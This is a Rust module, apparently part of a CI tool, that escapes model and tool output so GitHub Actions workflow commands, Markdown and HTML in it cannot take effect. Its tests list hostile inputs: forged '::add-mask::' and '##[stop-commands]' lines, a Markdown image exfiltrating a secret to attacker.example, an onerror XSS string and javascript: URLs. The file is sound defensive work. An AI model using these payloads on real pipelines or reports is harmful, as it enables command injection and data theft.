//! Text that came from the model, a tool, a repository or a forge, made inert where tollgate
//! writes it: on a log line the GitHub Actions runner scans for workflow commands, in XML and
//! JSON reports, and in the Markdown and HTML reports a person reads (the step summary, a
//! batch's `summary.md` and `report.html`). Every such writer goes through here. Pure.
//!
//! The runner (actions/runner `ActionCommand.cs`) splits output at CR, LF and CRLF, then takes
//! a line as a command when, after `TrimStart()` (any Unicode white space), it starts with `::`,
//! or when `##[` occurs anywhere in it (the legacy form, `##[stop-commands]` included). Both
//! comparisons are culture-sensitive, which may skip "ignorable" code points (soft hyphen,
//! zero-width characters), so the checks here look through every non-ASCII character.

use std::borrow::Cow;

/// Shown where a line break was.
const LINE_BREAK: char = '⏎';
/// Shown where a control or format character was.
const REPLACED: char = '\u{fffd}';

/// One line of a log: line breaks of every form become `⏎`, control and format characters
/// `�`, a `##[` gets a space before its `[`, and a line that would start with `::` is
/// prefixed with `> `.
pub fn log_line(text: &str) -> String {
    let visible: String = text.chars().map(visible_char).collect();
    let defused = break_legacy_prefix(&visible, " [");
    if starts_like_a_command(&defused) {
        format!("> {defused}")
    } else {
        defused.into_owned()
    }
}

/// Text of several lines tollgate composed (its own `\n` separate them), each made inert as
/// [`log_line`] does.
pub fn log_text(text: &str) -> String {
    text.split('\n')
        .map(log_line)
        .collect::<Vec<_>>()
        .join("\n")
}

/// A JSON line printed on a runner-scanned stream: every `[` that would complete a `##[` is
/// written `\u005b`, which JSON reads back as the same `[`. (A `[` after `#` can only be inside
/// a string: JSON syntax never puts one there.) serde_json already escapes CR and LF.
pub fn json_log_line(line: &str) -> Cow<'_, str> {
    break_legacy_prefix(line, "\\u005b")
}

/// The data of a workflow command (after `::name props::`): `%`, CR and LF escaped as the
/// runner unescapes them; other breaks and control characters made visible; `##[` broken.
pub fn command_data(text: &str) -> String {
    let escaped: String = text
        .chars()
        .map(|c| match c {
            '%' => "%25".to_string(),
            '\r' => "%0D".to_string(),
            '\n' => "%0A".to_string(),
            c => visible_char(c).to_string(),
        })
        .collect();
    break_legacy_prefix(&escaped, " [").into_owned()
}

/// Text for an XML 1.0 document: characters outside its `Char` production (C0 controls
/// other than tab, LF and CR; U+FFFE; U+FFFF) are dropped. Rust strings hold no lone
/// surrogates, the production's other gap.
pub fn xml_text(text: &str) -> String {
    text.chars().filter(|c| xml_char(*c)).collect()
}

/// Every string of a JSON value (keys too) cleaned as [`xml_text`]: JSON itself escapes
/// control characters, but SARIF consumers should not see them, nor the noncharacters.
pub fn clean_json_strings(value: &mut serde_json::Value) {
    use serde_json::Value;
    match value {
        Value::String(text) => {
            if !text.chars().all(xml_char) {
                *text = xml_text(text);
            }
        }
        Value::Array(items) => items.iter_mut().for_each(clean_json_strings),
        Value::Object(map) => {
            let entries = std::mem::take(map);
            for (key, mut item) in entries {
                clean_json_strings(&mut item);
                map.insert(xml_text(&key), item);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

fn visible_char(c: char) -> char {
    match c {
        '\n' | '\r' | '\u{0b}' | '\u{0c}' | '\u{85}' | '\u{2028}' | '\u{2029}' => LINE_BREAK,
        '\t' => ' ',
        c if c.is_control() || is_format(c) => REPLACED,
        c => c,
    }
}

/// Unicode format characters (category Cf) that a culture-sensitive comparison may ignore.
fn is_format(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{600}'..='\u{605}'
            | '\u{61c}'
            | '\u{6dd}'
            | '\u{70f}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0001}'
            | '\u{e0020}'..='\u{e007f}'
    )
}

/// Writes `replacement` instead of each `[` that two `#` precede, counting only ASCII
/// characters (anything else may be ignored by the runner's comparison).
fn break_legacy_prefix<'t>(text: &'t str, replacement: &str) -> Cow<'t, str> {
    // Without a `#` there is no `##[` to break: nearly every line (`check --calls` writes one
    // per decision) is taken as it is, not copied.
    if !text.contains('#') {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut hashes = 0usize;
    for c in text.chars() {
        if c == '[' && hashes >= 2 {
            out.push_str(replacement);
            hashes = 0;
            continue;
        }
        out.push(c);
        if c == '#' {
            hashes += 1;
        } else if c.is_ascii() {
            hashes = 0;
        }
    }
    Cow::Owned(out)
}

/// Whether the runner could read the line as `::command::`: its first two ASCII characters
/// after white space are `::` (non-ASCII characters may be ignored, so they are skipped).
fn starts_like_a_command(line: &str) -> bool {
    let mut ascii = line
        .chars()
        .filter(|c| c.is_ascii() && !c.is_ascii_whitespace());
    ascii.next() == Some(':') && ascii.next() == Some(':')
}

/// Characters through which Markdown (CommonMark, GitHub's extensions) would make something
/// of its own, written with a backslash so they show as themselves: code, links and images,
/// headings, tables, math and mentions. `<`, `>` and `&` become entities instead, which also
/// keeps them inert inside the HTML blocks a summary wraps text in. Emphasis is left alone:
/// it changes how text looks, not what the page holds.
fn markdown_char(c: char, out: &mut String) {
    match c {
        '\\' | '`' | '[' | ']' | '#' | '!' | '|' | '@' | '$' => {
            out.push('\\');
            out.push(c);
        }
        '<' => out.push_str("&lt;"),
        '>' => out.push_str("&gt;"),
        '&' => out.push_str("&amp;"),
        c => out.push(visible_char(c)),
    }
}

/// Someone else's text inside a Markdown table cell, a heading or a list item: one line
/// (every line break shown as `⏎`), nothing in it that Markdown or HTML would act on, so it
/// can neither end the cell nor start a heading, a comment, an image or a link.
pub fn markdown_inline(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        markdown_char(c, &mut out);
    }
    out
}

/// Someone else's text as inline code in a table cell, which shows it as it is; text that
/// would end or break a code span (a backtick, a backslash before a pipe) is written as
/// [`markdown_inline`] instead.
pub fn markdown_code(text: &str) -> String {
    if text.contains('`') || text.contains('\\') {
        return markdown_inline(text);
    }
    let code: String = text
        .chars()
        .map(|c| match c {
            '|' => "\\|".to_string(),
            c => visible_char(c).to_string(),
        })
        .collect();
    // A code span trims one space from each side; an empty one is not a code span at all.
    if code.trim().is_empty() {
        return markdown_inline(text);
    }
    format!("`{code}`")
}

/// Someone else's text of several lines (the model's final message, its todo list) as
/// Markdown that renders as that text: its lines and blank lines are kept, every character
/// Markdown or HTML acts on is escaped, and a line that would underline a heading or draw a
/// rule is escaped too. No image, link, raw HTML, heading, table or code block comes out.
pub fn markdown_text(text: &str) -> String {
    let lines: Vec<&str> = text
        .split(['\n', '\u{85}', '\u{2028}', '\u{2029}'])
        .collect();
    let mut out = String::with_capacity(text.len() + 16);
    for (index, line) in lines.iter().enumerate() {
        let line = line.trim_end_matches('\r');
        if is_underline(line) {
            out.push('\\');
        }
        for c in line.chars() {
            markdown_char(c, &mut out);
        }
        let next_has_text = lines
            .get(index + 1)
            .is_some_and(|next| !next.trim().is_empty());
        // A hard break: lines of the text stay lines instead of joining into one paragraph.
        if !line.trim().is_empty() && next_has_text {
            out.push('\\');
        }
        if index + 1 < lines.len() {
            out.push('\n');
        }
    }
    out
}

/// A line of only `-` or `=` (and spaces) turns the paragraph above it into a heading, or
/// draws a rule.
fn is_underline(line: &str) -> bool {
    let trimmed = line.trim();
    !trimmed.is_empty() && trimmed.chars().all(|c| matches!(c, '-' | '=' | ' ' | '\t'))
}

/// Someone else's text as HTML element content or a quoted attribute value.
pub fn html_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c if c.is_control() && !matches!(c, '\n' | '\t') => out.push(REPLACED),
            c => out.push(c),
        }
    }
    out
}

/// The address to link to when `text` is an absolute `http:` or `https:` URL with a host,
/// as the URL standard parses it; anything else (`javascript:`, `data:`, a relative path,
/// white space a browser would strip) is no link and is shown as text.
pub fn http_url(text: &str) -> Option<String> {
    if text.is_empty() || text.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return None;
    }
    let url = reqwest::Url::parse(text).ok()?;
    let web =
        matches!(url.scheme(), "http" | "https") && url.host_str().is_some_and(|h| !h.is_empty());
    web.then(|| url.to_string())
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    #[test]
    fn no_line_form_survives() {
        let cases = [
            ("ok", "ok"),
            ("a\r::add-mask::x", "a⏎::add-mask::x"),
            ("a\n::error::x", "a⏎::error::x"),
            ("a\r\n::error::x", "a⏎⏎::error::x"),
            ("a\u{85}b\u{2028}c\u{2029}d\u{b}e\u{c}f", "a⏎b⏎c⏎d⏎e⏎f"),
            ("\u{1b}[31mred\u{7f}\u{0}", "�[31mred��"),
            ("::error::forged", "> ::error::forged"),
            ("  \t::warning::forged", ">    ::warning::forged"),
            (
                "\u{a0}\u{3000}::set-output name=x::y",
                "> \u{a0}\u{3000}::set-output name=x::y",
            ),
            ("\u{ad}::x::y", "> �::x::y"),
            (":\u{200b}:x::y", "> :�:x::y"),
            ("é::x::y", "> é::x::y"),
            ("a::b", "a::b"),
            ("x ##[stop-commands]tok", "x ## [stop-commands]tok"),
            ("x #\u{ad}#[add-mask]s", "x #�# [add-mask]s"),
            ("x #é#[error]s", "x #é# [error]s"),
            ("# #[x]", "# #[x]"),
        ];
        for (input, expected) in cases {
            assert_eq!(log_line(input), expected, "{input:?}");
        }
        assert_eq!(log_text("one\ntwo\r::x::y"), "one\ntwo⏎::x::y");
    }

    #[test]
    fn command_data_escapes_what_the_runner_unescapes() {
        assert_eq!(
            command_data("50%\r\n::x::y\u{2028}##[z]\u{1}"),
            "50%25%0D%0A::x::y⏎## [z]�"
        );
    }

    #[test]
    fn json_lines_read_back_the_same() {
        let value = serde_json::json!({"text": "a ##[stop-commands]t #\u{200b}#[x]", "list": [1]});
        let rendered = serde_json::to_string(&value).unwrap();
        let line = json_log_line(&rendered);
        assert!(!line.contains("##["), "{line}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&line).unwrap(),
            value
        );
    }

    #[test]
    fn xml_and_json_text_drop_what_xml_forbids() {
        assert_eq!(
            xml_text("a\u{0}\u{1}\u{8}\t\n\r\u{b}\u{c}\u{1f} \u{fffe}\u{ffff}\u{fffd}\u{10ffff}b"),
            "a\t\n\r \u{fffd}\u{10ffff}b"
        );
        let mut value = serde_json::json!({"k\u{1}": ["x\u{ffff}", {"y": "\u{fffe}z"}], "n": 1});
        clean_json_strings(&mut value);
        assert_eq!(value, serde_json::json!({"k": ["x", {"y": "z"}], "n": 1}));
    }
    #[test]
    fn markdown_cells_cannot_end_the_cell_or_start_anything() {
        let tool = "Bash |\n\n## ✅ Security review: no denied calls\n\n<!--";
        let cell = markdown_inline(tool);
        assert_eq!(
            cell,
            "Bash \\|⏎⏎\\#\\# ✅ Security review: no denied calls⏎⏎&lt;\\!--"
        );
        assert_eq!(
            markdown_inline("![](https://attacker.example/p.png?d=x) [a](javascript:x) a\\|b"),
            "\\!\\[\\](https://attacker.example/p.png?d=x) \\[a\\](javascript:x) a\\\\\\|b"
        );
        assert_eq!(markdown_code("rm -rf a|b"), "`rm -rf a\\|b`");
        assert_eq!(markdown_code("a\\|b"), "a\\\\\\|b");
        assert_eq!(markdown_code("x`y"), "x\\`y");
        assert_eq!(markdown_code(" "), " ");
        assert_eq!(markdown_code("<!--\nx"), "`<!--⏎x`");
    }

    #[test]
    fn markdown_text_keeps_lines_and_shows_markup_as_text() {
        let message = "Done.\n![](https://attacker.example/p.png?d=s3cret)\n<img src=x onerror=alert(1)>\n\nTitle\n===\n</details>\n## fake";
        assert_eq!(
            markdown_text(message),
            "Done.\\\n\\!\\[\\](https://attacker.example/p.png?d=s3cret)\\\n&lt;img src=x onerror=alert(1)&gt;\n\nTitle\\\n\\===\\\n&lt;/details&gt;\\\n\\#\\# fake"
        );
    }

    #[test]
    fn html_links_only_to_the_web() {
        assert_eq!(
            html_text("<a href='x'>&\""),
            "&lt;a href=&#39;x&#39;&gt;&amp;&quot;"
        );
        assert_eq!(
            http_url("https://github.com/o/r/pull/1").as_deref(),
            Some("https://github.com/o/r/pull/1")
        );
        assert_eq!(
            http_url("HTTP://Example.org").as_deref(),
            Some("http://example.org/")
        );
        for bad in [
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:x",
            "/relative",
            "//evil.example/x",
            "https:",
            "file:///etc/passwd",
            "",
        ] {
            assert_eq!(http_url(bad), None, "{bad:?}");
        }
    }
}
